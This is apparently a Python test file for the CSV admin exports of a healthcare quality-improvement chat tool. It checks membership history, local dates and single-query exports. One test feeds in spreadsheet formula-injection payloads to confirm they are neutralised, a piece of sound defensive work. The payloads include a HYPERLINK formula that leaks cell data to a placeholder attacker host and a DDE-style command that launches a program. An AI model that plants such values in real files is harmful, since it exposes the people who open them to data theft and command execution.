"""CSV exports for admins: `qi-nudge export projects|memberships|signups`."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from sqlalchemy import event

from handlers.evidence.exports import (
    export_memberships,
    export_projects,
    export_signups,
    neutralise_formula,
)
from store.audit import record
from store.models import Forum, ForumMember, Membership, Person, Project
from store.names import name_key
from store.roles import Involvement, ProjectStatus, Role
from tests.conftest import person
from tests.handlers import given

MEMBERSHIP_HEADER = [
    "Project",
    "Site",
    "Project status",
    "Person",
    "Role",
    "Involvement",
    "On chat",
    "From",
    "Until",
    "Then",
]
SIGNUP_HEADER = ["Forum", "Person", "Role", "Wants to be matched", "Joined", "Left"]
LONDON = ZoneInfo("Europe/London")


def exported(sessions, export, zone=LONDON) -> tuple[int, list[list[str]]]:
    """What an admin's spreadsheet would show: the count returned, and every row, header first."""
    out = io.StringIO(newline="")
    with sessions() as session:
        written = export(session, out, zone=zone)
    return written, list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def add_person(session, name: str, now) -> Person:
    found = Person(display_name=name, created_at=now)
    session.add(found)
    session.flush()
    return found


def add_project(session, name: str, now, *, site=None, status=ProjectStatus.ACTIVE) -> Project:
    project = Project(
        name=name,
        name_key=name_key(name),
        site=site,
        status=status,
        created_at=now,
        updated_at=now,
    )
    session.add(project)
    session.flush()
    return project


def add_membership(session, project, who, role, involvement, joined, left=None) -> Membership:
    membership = Membership(
        project_id=project.id,
        person_id=who.id,
        role=role,
        involvement=involvement,
        consent_recorded_by_id=who.id,
        consent_recorded_at=joined,
        joined_at=joined,
        left_at=left,
    )
    session.add(membership)
    session.flush()
    return membership


def add_signup(session, forum_id, who, role, *, wants_match, joined, left=None) -> None:
    session.add(
        ForumMember(
            forum_id=forum_id,
            person_id=who.id,
            role=role,
            wants_match=wants_match,
            joined_at=joined,
            left_at=left,
        )
    )


def test_memberships_export_has_every_membership_including_past_ones(sessions, clock):
    now = clock()
    ben_id = given.person_id(sessions, person("Ben Okafor"), now)  # on chat
    with sessions.begin() as session:
        ben = session.get(Person, ben_id)
        sam = add_person(session, "sam jones", now)  # added by a lead; not on chat
        falls = add_project(session, "Falls prevention", now, site="Ward 7")
        insulin = add_project(session, "Insulin safety", now, status=ProjectStatus.ON_HOLD)
        add_membership(session, insulin, sam, Role.CARER, Involvement.CONSULTED, now)
        add_membership(
            session, falls, ben, Role.SERVICE_USER, Involvement.TEAM_MEMBER,
            now - timedelta(days=30), left=now - timedelta(days=2),
        )  # fmt: skip
        add_membership(session, falls, ben, Role.CARER, Involvement.TEAM_MEMBER, now)
        add_membership(session, falls, sam, Role.PEER_SUPPORTER, Involvement.CONSULTED, now)

    written, rows = exported(sessions, export_memberships)

    assert written == 4
    assert rows == [
        MEMBERSHIP_HEADER,
        [
            "Falls prevention", "Ward 7", "active", "Ben Okafor", "service user", "team member",
            "yes", "2026-10-24", "2026-11-21", "left the team",
        ],
        [
            "Falls prevention", "Ward 7", "active", "Ben Okafor", "carer", "team member",
            "yes", "2026-11-23", "", "",
        ],
        [
            "Falls prevention", "Ward 7", "active", "sam jones", "peer supporter", "consulted",
            "no", "2026-11-23", "", "",
        ],
        [
            "Insulin safety", "", "on hold", "sam jones", "carer", "consulted",
            "no", "2026-11-23", "", "",
        ],
    ]  # fmt: skip


def test_signups_export_has_every_forum_signup_including_past_ones(sessions, clock):
    now = clock()
    north = given.forum(sessions, now, "North QI Forum")
    south = given.forum(sessions, now, "South QI Forum")
    with sessions.begin() as session:
        asha = add_person(session, "Asha Patel", now)
        ben = add_person(session, "Ben Okafor", now)
        add_signup(session, south, asha, Role.STAFF, wants_match=False, joined=now)
        add_signup(
            session, north, ben, None, wants_match=True,
            joined=now - timedelta(days=10), left=now - timedelta(hours=1),
        )  # fmt: skip
        add_signup(session, north, asha, None, wants_match=False, joined=now)

    written, rows = exported(sessions, export_signups)

    assert written == 3
    assert rows == [
        SIGNUP_HEADER,
        ["North QI Forum", "Asha Patel", "", "no", "2026-11-23", ""],
        ["North QI Forum", "Ben Okafor", "", "yes", "2026-11-13", "2026-11-23"],
        ["South QI Forum", "Asha Patel", "staff", "no", "2026-11-23", ""],
    ]


def test_exports_of_an_empty_database_still_have_a_header(sessions):
    assert exported(sessions, export_memberships) == (0, [MEMBERSHIP_HEADER])
    assert exported(sessions, export_signups) == (0, [SIGNUP_HEADER])


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(sessions, clock):
    now = clock()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with sessions.begin() as session:
        project = add_project(session, formula, now, site="@SUM(A1:A9)")
        minus = add_person(session, "-2+3+cmd|' /C calc'!A0", now)
        plus = add_person(session, "+44 7700 900123", now)
        tab = add_person(session, "\t=1+1", now)
        safe = add_person(session, "Ann = Lee", now)
        for who in (minus, plus, tab, safe):
            add_membership(session, project, who, Role.CARER, Involvement.TEAM_MEMBER, now)
        forum = Forum(name="=cmd", name_key="cmd", created_at=now)
        session.add(forum)
        session.flush()
        carriage = add_person(session, "\rcr", now)
        add_signup(session, forum.id, carriage, None, wants_match=False, joined=now)

    _, memberships = exported(sessions, export_memberships)
    _, signups = exported(sessions, export_signups)

    # Sorted here: databases' collations disagree about where punctuation goes.
    assert sorted((row[0], row[1], row[3]) for row in memberships[1:]) == [
        ("'" + formula, "'@SUM(A1:A9)", "'\t=1+1"),
        ("'" + formula, "'@SUM(A1:A9)", "'+44 7700 900123"),
        ("'" + formula, "'@SUM(A1:A9)", "'-2+3+cmd|' /C calc'!A0"),
        ("'" + formula, "'@SUM(A1:A9)", "Ann = Lee"),
    ]
    assert signups[1][:2] == ["'=cmd", "'\rcr"]


def test_neutralise_formula_leaves_ordinary_text_alone():
    assert neutralise_formula("Falls prevention") == "Falls prevention"
    assert neutralise_formula("") == ""
    assert neutralise_formula("O'Neill") == "O'Neill"
    assert [neutralise_formula(c + "x") for c in "=+-@\t\r"] == [
        "'=x", "'+x", "'-x", "'@x", "'\tx", "'\rx",
    ]  # fmt: skip


def test_each_export_is_one_query(sessions, clock):
    now = clock()
    forum_id = given.forum(sessions, now)
    with sessions.begin() as session:
        for i in range(5):
            who = add_person(session, f"Person {i}", now)
            project = add_project(session, f"Project {i}", now)
            member = add_membership(session, project, who, Role.CARER, Involvement.TEAM_MEMBER, now)
            add_signup(session, forum_id, who, Role.CARER, wants_match=True, joined=now)
            for days, old, new in ((1, "staff", "other"), (2, "other", "carer")):  # a row each
                record(
                    session, at=now + timedelta(days=days), actor_id=None,
                    action="membership.role_changed", subject_type="membership",
                    subject_id=member.id, old=old, new=new,
                )  # fmt: skip
    statements: list[str] = []

    def count(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)

    connection = sessions.kw["bind"]
    event.listen(connection, "before_cursor_execute", count)
    try:
        assert exported(sessions, export_memberships)[0] == 15
        assert exported(sessions, export_signups)[0] == 5
    finally:
        event.remove(connection, "before_cursor_execute", count)

    assert len([s for s in statements if s.lstrip().upper().startswith("SELECT")]) == 2


# --- issue 19: history rows, local dates, and the projects with their leads ---------------------


def test_a_role_or_involvement_change_is_a_history_row_with_what_changed_then(
    chat, sessions, clock, asha
):
    chat.say(asha, '/qi-project new "Falls prevention"')
    chat.say(asha, '/qi-project add-member "Falls" "Sam Jones" as staff --consent')  # 23 Nov
    clock.advance(days=7)
    chat.say(asha, '/qi-project edit-member "Falls" "Sam Jones" as carer')  # 30 November
    clock.advance(days=14)
    chat.say(asha, '/qi-project edit-member "Falls" "Sam Jones" --consulted')  # 14 December
    clock.advance(days=7)
    chat.say(asha, '/qi-project remove-member "Falls" "Sam Jones"')  # 21 December

    written, rows = exported(sessions, export_memberships)

    assert written == 3
    assert [row[3:] for row in rows[1:]] == [
        ["Sam Jones", "staff", "team member", "no", "2026-11-23", "2026-11-30",
         "role changed to carer"],
        ["Sam Jones", "carer", "team member", "no", "2026-11-30", "2026-12-14",
         "now consulted rather than on the team"],
        ["Sam Jones", "carer", "consulted", "no", "2026-12-14", "2026-12-21", "left the team"],
    ]  # fmt: skip


def test_a_role_and_involvement_changed_together_are_one_row_end(chat, sessions, clock, asha):
    chat.say(asha, '/qi-project new "Falls prevention"')
    chat.say(asha, '/qi-project add-member "Falls" "Sam Jones" as staff --consulted --consent')
    clock.advance(days=3)

    chat.say(asha, '/qi-project edit-member "Falls" "Sam Jones" as carer --team-member')

    _, rows = exported(sessions, export_memberships)
    assert [row[4:] for row in rows[1:]] == [
        ["staff", "consulted", "no", "2026-11-23", "2026-11-26",
         "role changed to carer; now a team member"],
        ["carer", "team member", "no", "2026-11-26", "", ""],
    ]  # fmt: skip


def test_dates_are_the_trusts_own_not_utc(sessions, clock):
    # On the team "since 7 September": midnight in London, 23:00 on the 6th in UTC.
    since = datetime(2026, 9, 6, 23, 0, tzinfo=UTC)
    forum_id = given.forum(sessions, clock())
    with sessions.begin() as session:
        sam = add_person(session, "Sam Jones", since)
        falls = add_project(session, "Falls prevention", since)
        add_membership(session, falls, sam, Role.CARER, Involvement.TEAM_MEMBER, since)
        add_signup(session, forum_id, sam, Role.CARER, wants_match=False, joined=since)

    _, memberships = exported(sessions, export_memberships)
    _, signups = exported(sessions, export_signups)
    _, projects = exported(sessions, export_projects)

    assert memberships[1][7] == "2026-09-07"
    assert signups[1][4] == "2026-09-07"
    assert projects[1][5] == "2026-09-07"  # no start date in the register: when recorded


def test_the_projects_export_has_each_projects_lead_and_lived_experience_now(
    chat, sessions, clock, asha, ben
):
    chat.say(asha, '/qi-project new "Falls prevention"')
    chat.say(asha, '/qi-project new "Kinder waiting rooms"')
    chat.say(asha, '/qi-project add-member "Kinder" "Sam Jones" as carer --consulted --consent')
    chat.say(ben, "/qi-join falls as carer")
    chat.say(ben, "/qi-leave falls")

    written, rows = exported(sessions, export_projects)

    assert written == 2
    assert rows == [
        ["Project", "Site", "Status", "Lead", "Lead's e-mail", "Started",
         "Service user or carer on the team now"],
        ["Falls prevention", "", "active", "Asha Patel", "", "2026-11-23", "no"],  # Ben left
        ["Kinder waiting rooms", "", "active", "Asha Patel", "", "2026-11-23", "no"],  # consulted
    ]  # fmt: skip
